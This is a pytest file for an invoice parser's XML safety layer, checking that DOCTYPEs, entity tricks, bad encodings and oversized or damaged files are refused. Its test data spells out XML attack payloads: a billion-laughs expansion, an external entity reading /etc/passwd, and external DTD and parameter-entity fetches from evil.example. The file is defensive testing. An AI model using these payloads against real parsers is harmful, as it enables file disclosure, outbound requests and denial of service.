"""Hostile and broken XML: refused in one sentence, never believed, never fatal."""

import pytest

from blackstart.post import xmlsafe
from tests.post.invoices_made import CII, UBL, change, codes, finding, header, read

DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>'
LAUGHS = "<!DOCTYPE lolz [<!ENTITY a 'lol'>" + "".join(
    f"<!ENTITY {name} '{('&' + before + ';') * 10}'>"
    for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)
ENTITIES = {
    "entity for an amount": change(
        change(UBL, DECLARATION, "<!DOCTYPE Invoice [<!ENTITY x '220.01'>]>"), ">220.01<", ">&x;<"
    ),
    "billion laughs": change(change(UBL, DECLARATION, LAUGHS + "]>"), ">Brackets Ltd<", ">&i;<"),
    "external entity": change(
        change(UBL, DECLARATION, "<!DOCTYPE Invoice [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"),
        ">Brackets Ltd<",
        ">&x;<",
    ),
    "external DTD": change(
        UBL, DECLARATION, "<!DOCTYPE Invoice SYSTEM 'http://evil.example/a.dtd'>"
    ),
    "parameter entity": change(
        CII, DECLARATION, "<!DOCTYPE Invoice [<!ENTITY % x SYSTEM 'http://evil.example/a'> %x;]>"
    ),
    "bare": change(UBL, DECLARATION, f"{DECLARATION}\n\n<!DOCTYPE Invoice>"),
    "behind a comment": change(UBL, DECLARATION, "<!-- <a> --><?p <b> ?><!DOCTYPE Invoice>"),
    "behind half a comment": change(UBL, DECLARATION, "<!-- > <a -->\n<!DOCTYPE Invoice>"),
}


@pytest.mark.parametrize("body", ENTITIES.values(), ids=ENTITIES)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
def test_a_doctype_is_refused(body: str, encoding: str) -> None:
    """No trick with entities gets a figure past us, in whatever encoding it comes."""
    data = (
        body.replace("UTF-8", "UTF-16").encode(encoding)
        if "16" in encoding
        else body.encode(encoding)
    )
    heap = read(data)
    assert heap.invoices.is_empty()
    assert codes(heap) == ["BS-DOC-003"]
    assert finding(heap, "BS-DOC-003")["severity"] == "refused"


def test_the_parser_has_the_last_word() -> None:
    """A tag in a comment blinds the byte scan; the parsed document's own DTD still refuses it."""
    blinded = change(UBL, DECLARATION, "<!-- <a <!DOCTYPE -->\n<!DOCTYPE Invoice>")
    assert finding(read(blinded), "BS-DOC-003")["place"] == "before the root element"
    harmless = change(UBL, DECLARATION, "<!-- <a <!DOCTYPE -->")
    assert codes(read(harmless)) == []


def test_a_doctype_within_a_text_is_no_doctype() -> None:
    """A product may be described in HTML; only the prolog is dangerous."""
    heap = read(change(UBL, ">Glue<", "><![CDATA[<!DOCTYPE html>]]><"))
    assert heap.lines["description"].to_list() == ["Bracket", "<!DOCTYPE html>"]


@pytest.mark.parametrize(
    "encoding", ["utf-16", "utf-16-le", "utf-16-be", "iso-8859-1", "windows-1252"]
)
def test_other_encodings_are_read(encoding: str) -> None:
    """What says its encoding is read in it."""
    name = encoding if encoding[:3] != "utf" else "UTF-16"
    body = change(UBL, "Brackets Ltd", "Bräckets Ltd").replace("UTF-8", name)
    assert header(read(body.encode(encoding)))["seller_name"] == "Bräckets Ltd"


@pytest.mark.parametrize(
    ("body", "place"),
    [
        (change(UBL, "Brackets", "Bräckets").encode("latin-1"), "line 24, column"),
        (UBL.replace("UTF-8", "UTF-7").encode(), "first line"),
        (UBL.replace("UTF-8", "EBCDIC-CP-US").encode(), "first line"),
        (UBL.encode("utf-32"), "first line"),
        (b"<\0\0\0" + UBL.encode("utf-32-le")[4:], "first line"),
    ],
)
def test_bytes_in_another_encoding_are_refused(body: bytes, place: str) -> None:
    """Where the bytes do not fit the encoding, the place is named and nothing is read."""
    heap = read(body)
    assert codes(heap) == ["BS-DOC-004"]
    assert finding(heap, "BS-DOC-004")["place"].startswith(place)


@pytest.mark.parametrize(
    ("body", "place"),
    [
        (UBL[: len(UBL) // 2], "line 38, column"),
        (change(UBL, "Glue", "Gl\0e"), "line 73, column"),
        (change(UBL, ">220.01<", ">&total;<"), "line 45, column"),
        ("\n" + UBL, "line 2, column"),
        (UBL + UBL, "line 79, column"),
        (change(UBL, "Glue", "&#0;"), "line 73, column"),
        ("<a>" * 5000, "line 1, column"),
    ],
)
def test_damaged_xml_is_refused_with_its_place(body: str, place: str) -> None:
    """Cut, spoilt or too deep: line and column are named, and nothing is read."""
    heap = read(body)
    assert heap.invoices.is_empty()
    assert codes(heap) == ["BS-DOC-005"]
    row = finding(heap, "BS-DOC-005")
    assert row["place"].startswith(place)
    assert row["message"].startswith(f"The XML is damaged at {row['place']}: ")
    assert row["message"].endswith(". Nothing was read from the file.")


def test_a_file_too_large_is_refused_unread() -> None:
    """Twenty mebibytes are the limit, for XML and for CSV."""
    for body in (UBL, "invoice_number,currency\n"):
        heap = read(body.encode() + b" " * xmlsafe.BYTES_MAX)
        assert codes(heap) == ["BS-DOC-001"]
        assert str(xmlsafe.BYTES_MAX) in finding(heap, "BS-DOC-001")["message"]


@pytest.mark.parametrize("many", ["<b/>", '<b a=""/>'], ids=["tags", "attributes"])
def test_a_tree_that_is_too_large_is_refused(monkeypatch: pytest.MonkeyPatch, many: str) -> None:
    """A file of allowed bytes may still hold a tree that takes a gigabyte."""
    body = change(UBL, DECLARATION, "").replace("</Invoice>", many * 100 + "</Invoice>").encode()
    marks = body.count(b"<") + body.count(b"=")
    monkeypatch.setattr(xmlsafe, "MARKS_MAX", marks)
    assert codes(read(body)) == []
    monkeypatch.setattr(xmlsafe, "MARKS_MAX", marks - 1)
    heap = read(body)
    assert codes(heap) == ["BS-DOC-001"]
    assert f"about {marks} tags and attributes" in finding(heap, "BS-DOC-001")["message"]
